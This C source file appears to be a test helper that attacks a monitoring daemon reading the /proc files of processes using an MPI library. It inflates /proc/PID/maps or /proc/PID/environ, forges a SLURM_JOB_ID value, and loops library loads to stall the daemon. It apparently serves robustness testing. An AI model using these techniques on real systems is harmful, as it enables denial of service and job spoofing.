/*
 * The unprivileged side of the attacks through a process's own /proc files, which the
 * daemon reads for every process that maps an MPI library: makes one of them huge at
 * little cost, then maps the library LIB, creates READY, and runs until killed (with
 * AGAIN, a library it copies to a new file, AGAIN.N, loads and unloads in a loop
 * meanwhile, a hundred a second at most: a watched process is paused at each load until the daemon has read its
 * mappings again, and each load is of a file the daemon never saw).
 *
 *   attack_proc LIB READY maps DIR COUNT [AGAIN]
 *       its list of mappings (/proc/PID/maps) hundreds of megabytes long: under DIR a path
 *       of nearly 4 KiB (directories of 250-character names) to a one-page file, that page
 *       mapped COUNT times, each mapping a line naming the whole path (mappings of one page
 *       at one offset are never merged)
 *   attack_proc LIB READY environ MIB MARKER [AGAIN]
 *       its environment (/proc/PID/environ) MIB MiB long: its bounds moved
 *       (PR_SET_MM_MAP, which needs no privilege) over a region that holds
 *       SLURM_JOB_ID=MARKER, then nothing it ever touches (one page of its memory)
 */
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static int long_maps(const char *dir, long count)
{
    if (chdir(dir) != 0) {
        perror("chdir");
        return 1;
    }
    char name[251];
    memset(name, 'm', 250);
    name[250] = 0;
    size_t length = strlen(dir);
    while (length + 2 * 251 < 3900) {
        if (mkdir(name, 0755) != 0 || chdir(name) != 0) {
            perror("mkdir");
            return 1;
        }
        length += 251;
    }
    int fd = open(name, O_CREAT | O_RDWR, 0644);
    if (fd < 0 || ftruncate(fd, 4096) != 0) {
        perror("page file");
        return 1;
    }
    for (long i = 0; i < count; i++) {
        if (mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0) == MAP_FAILED) {
            perror("mmap");
            return 1;
        }
    }
    return 0;
}

static int long_environ(size_t length, const char *marker)
{
    /* The other bounds kept as they are: /proc/self/stat's fields 26-28 and 45-49. */
    unsigned long field[53] = {0};
    char stat[4096] = {0};
    FILE *f = fopen("/proc/self/stat", "r");
    if (!f || fread(stat, 1, sizeof stat - 1, f) == 0) {
        perror("stat");
        return 1;
    }
    fclose(f);
    int i = 3;
    for (char *t = strtok(strrchr(stat, ')') + 2, " "); t && i < 53; t = strtok(NULL, " "))
        field[i++] = strtoul(t, NULL, 10);
    char *region =
        mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (region == MAP_FAILED) {
        perror("mmap");
        return 1;
    }
    snprintf(region, 1100, "SLURM_JOB_ID=%s", marker);
    struct prctl_mm_map map = {
        .start_code = field[26],
        .end_code = field[27],
        .start_stack = field[28],
        .start_data = field[45],
        .end_data = field[46],
        .start_brk = field[47],
        .brk = (unsigned long)sbrk(0),
        .arg_start = field[48],
        .arg_end = field[49],
        .env_start = (unsigned long)region,
        .env_end = (unsigned long)region + length,
        .exe_fd = (unsigned)-1,
    };
    if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0) {
        perror("PR_SET_MM_MAP");
        return 1;
    }
    return 0;
}

static int copy_file(const char *from, const char *to)
{
    int in = open(from, O_RDONLY), out = open(to, O_CREAT | O_TRUNC | O_WRONLY, 0755);
    char buf[65536];
    ssize_t n = in < 0 || out < 0 ? -1 : 0;
    while (n >= 0 && (n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, (size_t)n) != n)
            n = -1;
    close(in);
    close(out);
    return n < 0 ? -1 : 0;
}

int main(int argc, char **argv)
{
    if (argc != 6 && argc != 7)
        return 2;
    const char *lib = argv[1], *ready = argv[2], *what = argv[3];
    int failed;
    if (strcmp(what, "maps") == 0)
        failed = long_maps(argv[4], atol(argv[5]));
    else if (strcmp(what, "environ") == 0 && strlen(argv[5]) <= 1000)
        failed = long_environ((size_t)atol(argv[4]) << 20, argv[5]);
    else
        return 2;
    if (failed)
        return 1;
    if (!dlopen(lib, RTLD_NOW)) {
        fprintf(stderr, "%s\n", dlerror());
        return 1;
    }
    close(open(ready, O_CREAT | O_WRONLY, 0644));
    if (argc == 7) {
        for (long n = 0;; n++) {
            char copy[4096];
            snprintf(copy, sizeof copy, "%s.%ld", argv[6], n);
            if (copy_file(argv[6], copy) != 0)
                return 1;
            void *again = dlopen(copy, RTLD_NOW);
            if (!again) {
                fprintf(stderr, "%s\n", dlerror());
                return 1;
            }
            dlclose(again);
            /* Kept: a file unlinked gives its inode number to the next copy. */
            usleep(10000);
        }
    }
    for (;;)
        pause();
}
